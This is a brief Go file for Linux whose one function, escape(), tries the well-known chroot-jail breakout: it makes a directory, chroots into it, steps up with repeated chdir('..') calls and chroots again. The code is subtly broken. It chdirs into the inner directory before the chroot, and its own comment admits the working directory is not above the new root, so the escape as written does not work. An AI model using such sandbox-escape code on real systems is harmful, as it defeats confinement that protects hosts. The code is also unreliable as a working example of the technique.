//go:build linux

package main

import (
	"os"

	"golang.org/x/sys/unix"
)

// The working directory goes along into the inner directory, so it is not above the new root.
func escape() error {
	if err := os.MkdirAll("/x", 0o700); err != nil {
		return err
	}
	if err := unix.Chdir("/x"); err != nil {
		return err
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	return unix.Chroot(".")
}
